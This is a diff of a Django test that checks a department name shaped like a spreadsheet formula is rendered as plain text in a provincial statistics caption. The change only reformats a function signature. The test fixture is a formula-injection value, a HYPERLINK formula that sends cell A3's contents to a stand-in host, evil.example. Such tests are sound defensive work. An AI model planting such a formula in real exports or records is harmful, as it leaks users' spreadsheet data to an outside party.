@@ -12,7 +12,9 @@ pytestmark = pytest.mark.django_db
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A3,"机电系")'
 
 
-def test_a_department_named_like_a_formula_lands_as_text_in_the_provincial_caption(small_school, centre_client):
+def test_a_department_named_like_a_formula_lands_as_text_in_the_provincial_caption(
+    small_school, centre_client
+):
     Department.objects.filter(code="JD").update(name=HOSTILE)
 
     response = centre_client.get("/stats/provincial/", {"scope": "dept:JD", "first": 2026, "last": 2026})
